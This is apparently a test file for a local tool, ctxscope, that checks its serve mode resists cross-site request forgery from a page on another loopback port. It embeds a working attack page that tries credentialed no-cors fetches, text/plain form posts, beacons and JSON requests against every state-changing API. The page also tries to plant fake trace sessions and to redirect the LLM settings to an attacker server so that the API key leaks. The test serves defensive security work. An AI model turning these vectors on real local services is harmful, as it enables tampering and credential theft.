// A page served from another port of 127.0.0.1, opened in the same browser
// as a ctxscope page, tries every state-changing call by every request a
// page can make without a preflight (fetch no-cors with credentials,
// text/plain bodies, form posts, beacons) and a preflighted JSON fetch,
// to the API and to the OTLP receiver.
// Nothing may change: the LLM settings, the sessions, the memories, the
// discovery switch, the annotator and the queue stay as they were, the
// call log shows no call from the attack, the attacker's server never
// receives the user's API key or session text, and no request to it
// carries a ctxscope cookie.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { mkdtempSync, readFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { launchBrowser, screenshot, shared, startServeWithEnv } from '../lib.mjs';

const apiKey = 'sk-ctxscope-test-key-that-must-not-leak';
let server, browser, attacker, callLog;

// attackerServer serves the attack page and records every request made to
// it: its path, headers and body.
function attackerServer() {
  const hits = [];
  const srv = createServer((req, res) => {
    let body = '';
    req.on('data', (d) => { body += d; });
    req.on('end', () => {
      hits.push({ url: req.url, headers: req.headers, body });
      if (req.url.startsWith('/attack.html')) {
        res.writeHead(200, { 'Content-Type': 'text/html' });
        res.end(attackPage);
      } else {
        res.writeHead(200, { 'Content-Type': 'application/json' });
        res.end('{"choices":[{"message":{"content":"[]"}}]}');
      }
    });
  });
  return new Promise((resolve) => srv.listen(0, '127.0.0.1', () => resolve({
    hits, origin: `http://127.0.0.1:${srv.address().port}`, close: () => new Promise((r) => srv.close(r)),
  })));
}

// The attack: each call by each vector, then a beacon to say it is done.
const attackPage = `<!doctype html><title>attack</title><body><script>
const params = new URLSearchParams(location.search);
const target = params.get('target'), me = location.origin;
const calls = JSON.parse(params.get('calls'));
const vectors = {
  noCorsText: (url, body) => fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body }),
  noCorsNoType: (url, body) => fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body: new Blob([body]) }),
  corsJSON: (url, body) => fetch(url, { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body }),
  beacon: (url, body) => Promise.resolve(navigator.sendBeacon(url, body)),
  formText: (url, body) => new Promise((resolve) => {
    const f = document.createElement('iframe'); f.name = 'f' + Math.random(); document.body.appendChild(f);
    const form = document.createElement('form');
    form.method = 'POST'; form.action = url; form.enctype = 'text/plain'; form.target = f.name;
    const input = document.createElement('input'); input.name = body.slice(0, -1); input.value = ']';
    form.appendChild(input); document.body.appendChild(form);
    f.onload = resolve; form.submit(); setTimeout(resolve, 1500);
  }),
  formURLEncoded: (url, body) => new Promise((resolve) => {
    const f = document.createElement('iframe'); f.name = 'g' + Math.random(); document.body.appendChild(f);
    const form = document.createElement('form');
    form.method = 'POST'; form.action = url; form.target = f.name;
    const input = document.createElement('input'); input.name = 'args'; input.value = body;
    form.appendChild(input); document.body.appendChild(form);
    f.onload = resolve; form.submit(); setTimeout(resolve, 1500);
  }),
};
(async () => {
  for (const [service, method, args] of calls) {
    for (const [name, send] of Object.entries(vectors)) {
      try { await send(target + '/api/call/' + service + '/' + method, JSON.stringify(args)); } catch (e) { /* refused: fine */ }
    }
  }
  // The OTLP receiver: a made-up span that would plant a session.
  const planted = JSON.stringify({ resourceSpans: [{ scopeSpans: [{ spans: [{ traceId: '0102030405060708090a0b0c0d0e0f10', spanId: '0102030405060708', name: 'chat',
    attributes: [{ key: 'gen_ai.conversation.id', value: { stringValue: 'planted' } },
      { key: 'gen_ai.input.messages', value: { stringValue: JSON.stringify([{ role: 'user', parts: [{ type: 'text', content: 'planted' }] }]) } }] }] }] }] });
  for (const path of ['/v1/traces', '/v1/logs']) {
    for (const [name, send] of Object.entries(vectors)) {
      try { await send(target + path, planted); } catch (e) { /* refused: fine */ }
    }
  }
  for (const path of ['/api/events', '/api/session']) {
    try { await fetch(target + path, { method: path === '/api/session' ? 'POST' : 'GET', credentials: 'include' }); } catch (e) {}
  }
  try { const r = await fetch(target + '/', { credentials: 'include' }); await r.text(); } catch (e) {}
  await fetch(me + '/done', { method: 'POST', body: 'done' });
})();
</script>`;

// snapshot reads what the attack must not change, through the API with the
// token, as the ctxscope page would.
async function snapshot() {
  const read = async (service, method, args = []) => {
    const r = await server.call(service, method, args);
    assert.equal(r.status, 200, `${service}.${method}: ${r.status}`);
    return r.json();
  };
  const sessions = (await read('Sessions', 'List')).map((s) => [s.key, s.title]);
  return {
    sessions,
    memories: (await read('Memory', 'List')).map((m) => m.name ?? m.set ?? JSON.stringify(m)),
    llm: await read('Memory', 'LLMSettings'),
    discovery: await read('Live', 'Discovery'),
    following: await read('Live', 'Following'),
    annotator: await read('Annotations', 'Annotator'),
    queue: await read('Annotations', 'Queue', [memorySet]),
  };
}

let memorySet;

// buildMemory builds LoCoMo conversation 0 offline through the API, so
// that the memory calls and the annotation queue have a set to act on.
async function buildMemory() {
  const r = await server.call('Memory', 'Build', [{ source: 'locomo', path: join(shared, 'locomo/locomo10.json'), sample: 0, extractor: 'offline' }]);
  let state = await r.json();
  assert.equal(r.status, 200, JSON.stringify(state));
  for (let i = 0; i < 600 && !['done', 'failed', 'cancelled'].includes(state.stage); i++) {
    await new Promise((res) => setTimeout(res, 100));
    state = await (await server.call('Memory', 'Job', [state.job])).json();
  }
  assert.equal(state.stage, 'done', JSON.stringify(state));
  return state.set;
}

// logLines reads the call log: one JSON line per call that reached Go.
function logLines() {
  return existsSync(callLog) ? readFileSync(callLog, 'utf8').trim().split('\n').filter(Boolean).map((l) => JSON.parse(l)) : [];
}

before(async () => {
  attacker = await attackerServer();
  callLog = join(mkdtempSync(join(tmpdir(), 'ctxscope-calls-')), 'calls.jsonl');
  server = await startServeWithEnv({ CTXSCOPE_LLM_KEY: apiKey, CTXSCOPE_CALL_LOG: callLog });
  browser = await launchBrowser();
  memorySet = await buildMemory();
});
after(async () => {
  await browser?.close();
  server?.stop();
  await attacker?.close();
});

test('a page on another loopback port cannot drive serve mode', { timeout: 180_000 }, async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(server.url.href);
  await page.waitForSelector('[data-testid=timeline] canvas');
  const before = await snapshot();
  const demo = before.sessions[0][0];
  // The ctxscope page is closed during the attack, so that every call the
  // log shows from now on is the attack's; the browser still holds all it
  // kept of the page.
  await page.close();
  const logged = logLines().length;
  const session = join(shared, 'sessions/pi/agent-sessions__pi-v3-small.jsonl');
  const calls = [
    ['Memory', 'SetLLMSettings', [attacker.origin + '/v1', 'attacker-model']],
    ['Memory', 'Build', [{ source: 'session', session: demo, extractor: 'llm' }]],
    ['Memory', 'Build', [{ source: 'locomo', path: join(shared, 'locomo/locomo10.json'), sample: 0, extractor: 'offline' }]],
    ['Memory', 'Import', [{ graph: join(shared, 'memweaver-kg/kg_sample_0.json'), clusters: '', locomo: '', sample: 0 }]],
    ['Memory', 'Delete', [memorySet]],
    ['Memory', 'Merge', [memorySet, 'e1', 'e2']],
    ['Sessions', 'Import', [[session]]],
    ['Sessions', 'OpenPath', [session]],
    ['Sessions', 'Delete', [demo]],
    ['Sessions', 'MarkSeen', [demo, 1]],
    ['Live', 'SetDiscovery', [true]],
    ['Live', 'Follow', [demo]],
    ['Annotations', 'SetAnnotator', ['mallory']],
    ['Annotations', 'AddCustom', [memorySet, 'injected question']],
    ['Annotations', 'AddLoCoMo', [memorySet, [0, 1]]],
    ['Debugger', 'SaveReplay', [demo, { policy: 'paper', budget: 1000 }, 'json']],
  ];

  const done = new Promise((resolve) => {
    const timer = setInterval(() => { if (attacker.hits.some((h) => h.url === '/done')) { clearInterval(timer); resolve(); } }, 100);
  });
  const evil = await context.newPage();
  await evil.goto(`${attacker.origin}/attack.html?target=${encodeURIComponent(server.origin)}&calls=${encodeURIComponent(JSON.stringify(calls))}`);
  await done;
  await evil.waitForTimeout(1500); // let any build the attack started reach the attacker
  await screenshot(evil, 'csrf-attack-page.png');
  const reached = logLines().slice(logged);
  assert.deepEqual(reached, [], 'calls of the attack reached Go');

  const afterState = await snapshot();
  assert.deepEqual(afterState, before, 'the attack changed the workspace');
  const leaked = attacker.hits.filter((h) => !['/done', '/favicon.ico'].includes(h.url) && !h.url.startsWith('/attack.html'));
  assert.deepEqual(leaked.map((h) => h.url), [], 'ctxscope sent requests to the attacker');
  for (const h of attacker.hits) {
    assert.ok(!JSON.stringify(h).includes(apiKey), `the API key reached the attacker in ${h.url}`);
    assert.ok(!String(h.headers.cookie ?? '').includes(server.token), `the token reached the attacker as a cookie in ${h.url}`);
  }
  assert.deepEqual(await context.cookies(), [], 'serve set a cookie');
  await context.close();
});
